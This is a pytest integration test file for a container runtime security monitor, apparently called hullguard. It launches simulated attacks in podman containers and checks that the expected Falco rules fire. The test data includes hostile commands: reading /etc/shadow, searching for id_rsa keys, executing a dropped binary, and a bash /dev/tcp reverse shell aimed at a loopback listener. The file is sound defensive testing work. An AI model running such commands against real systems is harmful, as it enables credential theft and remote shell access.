"""Real attacks in real containers (rootful podman, runc) under the real monitor (eBPF):
each raises the Falco rule it should, attributed to the right container; a benign one raises
nothing; drift is reported with its path, and denied with --block-drift."""

from __future__ import annotations

import os
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from hullguard.runtime.bpf.build import object_path
from hullguard.runtime.errors import SourceUnavailable
from tests.conftest import require
from tests.runtime.support import IMAGE, Store, by_container, monitor, podman_store
from tests.support import images
from tests.support.podman import missing_podman_tools

pytestmark = pytest.mark.integration
FALCO = Path(__file__).resolve().parents[3] / "shared" / "conformance" / "falco-rules" / "rules"
TEST_RULES = Path(__file__).with_name("rules") / "test_rules.yaml"


def require_ebpf() -> None:
    require(os.geteuid() == 0, "runtime tests need root (eBPF, fanotify, rootful podman)")
    try:
        object_path()
    except SourceUnavailable as e:
        require(False, f"eBPF unavailable: {e.diagnostics()}")


@pytest.fixture(scope="module")
def store(demo_image: images.BuiltImage) -> Iterator[Store]:
    require_ebpf()
    missing = missing_podman_tools()
    require(not missing, f"runtime tests need {', '.join(missing)}")
    require(FALCO.is_dir(), f"{FALCO} is absent")
    with podman_store(demo_image.archive) as s:
        yield s


@pytest.fixture(scope="module")
def listener() -> Iterator[int]:
    """A TCP listener on 127.0.0.1 (ephemeral port) that accepts and holds connections."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.5)
    stop = threading.Event()
    held: list[socket.socket] = []

    def serve() -> None:
        while not stop.is_set():
            try:
                held.append(server.accept()[0])
            except OSError:
                continue

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1]
    stop.set()
    thread.join()
    for conn in held:
        conn.close()
    server.close()


ATTACKS: dict[str, tuple[str, tuple[str, ...], tuple[str, ...]]] = {
    # name: (expected rule, command, podman run options)
    "shadow": ("Read sensitive file untrusted", ("cat", "/etc/shadow"), ()),
    "keys": ("Search Private Keys or Passwords", ("find", "/etc", "-name", "id_rsa"), ()),
    "drop": ("Drop and execute new binary in container",
             ("bash", "-c", "cp /usr/bin/ls /tmp/dropped && /tmp/dropped /"), ()),
    "shm": ("Execution from /dev/shm", ("bash", "-c", "echo true > /dev/shm/run.sh; bash /dev/shm/run.sh"), ()),
    "symlink": ("Create Symlink Over Sensitive Files", ("ln", "-s", "/etc/shadow", "/tmp/shadow"), ()),
    "tty": ("Terminal shell in container", ("bash", "-c", "true"), ("-t",)),
    "pkg": ("Launch Package Management Process in Container", ("dpkg", "-l"), ()),
}


@pytest.fixture(scope="module")
def watched(store: Store, listener: int, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """One monitor over every attack, the benign container and the connects; its alerts by case."""
    tmp = tmp_path_factory.mktemp("watch")
    rules = ("-r", str(FALCO / "falco_rules.yaml"), "-r", str(FALCO / "falco-incubating_rules.yaml"),
             "-r", str(TEST_RULES))
    ids: dict[str, str] = {}
    with monitor(store, *rules, "--format", "json", tmp=tmp) as mon:
        for name, (_rule, command, options) in ATTACKS.items():
            ids[name] = store.run(f"hg-{name}", *command, options=options)
        ids["revshell"] = store.run("hg-revshell", "bash", "-c", f"bash -c 'echo hi' >& /dev/tcp/127.0.0.1/{listener} 0>&1",
                                    options=("--network", "host"))
        ids["benign"] = store.run("hg-benign", "ls", "/usr")
        alerts, stderr = mon.stop()
    return {"ids": ids, "alerts": alerts, "stderr": stderr, "attached": mon.attached}


def test_monitor_says_what_it_watches_and_ends_cleanly(watched: dict[str, Any]) -> None:
    assert watched["attached"] == "hullguard runtime: watching (ebpf)"
    assert "events," in watched["stderr"] and "Traceback" not in watched["stderr"]
    print(watched["stderr"])  # the summary (events, alerts, dropped): shown with -rP


@pytest.mark.parametrize("case", sorted(ATTACKS))
def test_attack_raises_its_falco_rule_for_its_container(watched: dict[str, Any], case: str) -> None:
    container_id = watched["ids"][case]
    alerts = by_container(watched["alerts"], container_id)
    rule = ATTACKS[case][0]
    matching = [a for a in alerts if a["id"] == rule]
    assert matching, f"{rule} not raised for {case}; got {[a['id'] for a in alerts]}"
    alert = matching[0]
    assert alert["kind"] == "runtime"
    assert alert["location"]["container"] == {"id": container_id, "name": f"hg-{case}", "image": IMAGE}
    assert alert["process"]["pid"] > 0 and alert["process"]["name"]
    assert alert["output"] and "<NA>" not in alert["output"].split("|")[0]
    assert alert["time"].endswith("Z") and alert["severity"] in ("LOW", "MEDIUM", "HIGH", "CRITICAL")


def test_reverse_shell_to_loopback_raises_redirect_and_connection(watched: dict[str, Any], listener: int) -> None:
    alerts = by_container(watched["alerts"], watched["ids"]["revshell"])
    ids = {a["id"] for a in alerts}
    assert {"Redirect STDOUT/STDIN to Network Connection in Container", "Loopback connection from container"} <= ids
    connect = next(a for a in alerts if a["id"] == "Loopback connection from container")
    assert f"127.0.0.1:{listener}" in connect["output"]
    assert connect["fields"]["fd.sport"] == str(listener) and connect["fields"]["fd.sip"] == "127.0.0.1"
    assert connect["process"]["name"] == "bash"


def test_dropped_binary_is_drift_with_its_path(watched: dict[str, Any]) -> None:
    alerts = by_container(watched["alerts"], watched["ids"]["drop"])
    drift = [a for a in alerts if a["id"] == "Drift: executable not in container image"]
    assert drift and drift[0]["location"]["path"] == "/tmp/dropped"
    assert "executed" in drift[0]["output"]


def test_benign_container_raises_nothing(watched: dict[str, Any]) -> None:
    assert by_container(watched["alerts"], watched["ids"]["benign"]) == []


def test_block_drift_denies_the_exec_and_says_so(store: Store, tmp_path: Path) -> None:
    with monitor(store, "--block-drift", "--format", "json", tmp=tmp_path) as mon:
        result = store.podman("run", "--name", "hg-blocked", "--user", "0", IMAGE, "bash", "-c",
                              "sleep 2; cp /usr/bin/ls /tmp/dropped; /tmp/dropped /; echo rc=$?; ls / >/dev/null && echo ls=ok")
        container_id = store.podman("container", "inspect", "--format", "{{.Id}}", "hg-blocked").stdout.strip()
        alerts, _ = mon.stop()
    assert mon.attached == "hullguard runtime: watching (fanotify-perm, ebpf)"
    assert "rc=126" in result.stdout and "ls=ok" in result.stdout  # denied; the image's own ls still runs
    (alert,) = [a for a in by_container(alerts, container_id) if a["id"].startswith("Drift")]
    assert alert["location"]["path"] == "/tmp/dropped" and "denied (--block-drift)" in alert["output"]


def test_proc_connector_fallback_sees_execs(store: Store, tmp_path: Path) -> None:
    with monitor(store, "--source", "proc-connector", "-r", str(FALCO / "falco_rules.yaml"), "--format", "falco-json",
                 tmp=tmp_path) as mon:
        # The proc connector gives only a pid: the rest is read from /proc, so the process must
        # live until its exec is read: this find waits 3 s on a match (a bare one may be gone).
        store.run("hg-fallback", "bash", "-c", "touch /tmp/id_rsa; find / -xdev -name id_rsa -exec sleep 3 ';'")
        alerts, _ = mon.stop()
    assert mon.attached == "hullguard runtime: watching (proc-connector, fanotify)"
    found = [a for a in alerts if a["rule"] == "Search Private Keys or Passwords"]
    assert found and found[0]["output_fields"]["proc.name"] == "find"
    assert set(found[0]) == {"hostname", "output", "output_fields", "priority", "rule", "source", "tags", "time"}


def test_profile_learns_seccomp_and_network_policy(store: Store, listener: int, tmp_path: Path) -> None:
    import json
    import subprocess
    import sys

    import yaml

    store.podman("run", "-d", "--name", "hg-profiled", "--user", "0", "--network", "host", IMAGE, "bash", "-c",
                 f"for i in $(seq 60); do (echo hi > /dev/tcp/127.0.0.1/{listener}) 2>/dev/null; cat /etc/hostname >/dev/null;"
                 " sleep 0.2; done")
    result = subprocess.run(
        [sys.executable, "-m", "hullguard.cli.main", "runtime", "profile", "--container", "hg-profiled",
         "--duration", "4", "--output-dir", str(tmp_path)],
        env=store.env, capture_output=True, text=True, timeout=120,
    )
    assert result.returncode == 0, result.stderr
    seccomp = json.loads((tmp_path / "hg-profiled.seccomp.json").read_text())
    names = set(seccomp["syscalls"][0]["names"])
    assert {"connect", "socket", "openat", "execve", "clone"} <= names and "ptrace" not in names
    policy = yaml.safe_load((tmp_path / "hg-profiled.networkpolicy.yaml").read_text())
    assert {"to": [{"ipBlock": {"cidr": "127.0.0.1/32"}}], "ports": [{"protocol": "TCP", "port": listener}]} in (
        policy["spec"]["egress"])


def test_profile_of_a_missing_container_is_a_clear_error(store: Store) -> None:
    import subprocess
    import sys

    result = subprocess.run(
        [sys.executable, "-m", "hullguard.cli.main", "runtime", "profile", "--container", "no-such-container",
         "--duration", "1"], env=store.env, capture_output=True, text=True, timeout=60)
    assert result.returncode == 2 and "no-such-container" in result.stderr and "Traceback" not in result.stderr


def test_drift_on_overlay_storage_is_the_upper_layer(demo_image: images.BuiltImage, tmp_path: Path) -> None:
    require_ebpf()
    missing = missing_podman_tools()
    require(not missing, f"runtime tests need {', '.join(missing)}")
    with podman_store(demo_image.archive, driver="overlay") as overlay, \
            monitor(overlay, "-r", str(FALCO / "falco_rules.yaml"), "--format", "json", tmp=tmp_path) as mon:
        container_id = overlay.run("hg-overlay", "bash", "-c", "sleep 1; cp /usr/bin/ls /tmp/dropped; /tmp/dropped /; ls /")
        alerts, _ = mon.stop()
    ids = [a["id"] for a in by_container(alerts, container_id)]
    assert sorted(ids) == ["Drift: executable not in container image", "Drop and execute new binary in container"]
    drift = next(a for a in by_container(alerts, container_id) if a["id"].startswith("Drift"))
    assert drift["location"]["path"] == "/tmp/dropped"
